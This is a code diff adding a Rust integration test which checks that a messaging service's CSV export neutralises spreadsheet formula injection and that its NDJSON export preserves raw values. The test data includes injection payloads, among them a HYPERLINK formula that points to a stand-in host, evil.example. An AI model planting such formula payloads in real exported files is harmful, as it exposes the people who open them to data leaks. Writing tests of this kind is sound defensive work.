@@ -179,3 +179,47 @@ fn recipients_must_be_phone_numbers_on_both_paths() {
         "Delivered"
     );
 }
+
+/// CSV exports neutralise text a spreadsheet would run as a formula
+/// (leading `=`, `+`, `-`, `@`, tab, CR get a `'`); pure phone numbers
+/// like `+15551230001` stay as they are; NDJSON keeps every byte.
+#[test]
+fn csv_export_neutralises_formulas_and_ndjson_stays_exact() {
+    let d = Daemon::start();
+    let reference = r#"=HYPERLINK("http://evil.example/?x","open")"#;
+    let r = d.post_api(
+        "/api/messages",
+        &json!({"to": "+15551230001", "batch_id": "B", "client_reference": reference, "body": "@SUM(1+1)"}),
+    );
+    assert_eq!(r.status, 201, "{}", r.text());
+    let r = d.post_api(
+        "/api/messages",
+        &json!({"to": "15551230002", "batch_id": "B", "client_reference": "-2+3", "body": "\tcmd"}),
+    );
+    assert_eq!(r.status, 201, "{}", r.text());
+    let csv = d.get("/api/export?format=csv").text();
+    let lines: Vec<&str> = csv.split("\r\n").collect();
+    assert!(lines[0].starts_with("id,to,recipient,batch_id,client_reference,body,"));
+    // Newest first: message 2, then message 1.
+    assert!(
+        lines[1].starts_with("2,15551230002,15551230002,B,'-2+3,'\tcmd,"),
+        "{}",
+        lines[1]
+    );
+    assert!(
+        lines[2].starts_with(
+            r#"1,+15551230001,15551230001,B,"'=HYPERLINK(""http://evil.example/?x"",""open"")",'@SUM(1+1),"#
+        ),
+        "{}",
+        lines[2]
+    );
+    let ndjson = d.get("/api/export?format=ndjson").text();
+    let rows: Vec<serde_json::Value> = ndjson
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert_eq!(rows[1]["client_reference"], reference);
+    assert_eq!(rows[1]["body"], "@SUM(1+1)");
+    assert_eq!(rows[1]["to"], "+15551230001");
+    assert_eq!(rows[0]["body"], "\tcmd");
+}
